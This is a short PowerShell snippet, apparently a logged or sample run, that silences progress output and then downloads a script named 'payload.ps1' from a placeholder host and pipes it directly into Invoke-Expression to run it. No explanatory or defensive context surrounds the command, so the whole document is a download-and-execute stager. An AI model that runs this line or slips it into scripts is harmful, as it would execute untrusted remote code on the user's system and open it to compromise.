# run 5245 v4
$ProgressPreference = 'SilentlyContinue'
iwr -UseBasicParsing http://static.metrics-node.example/payload.ps1 | iex
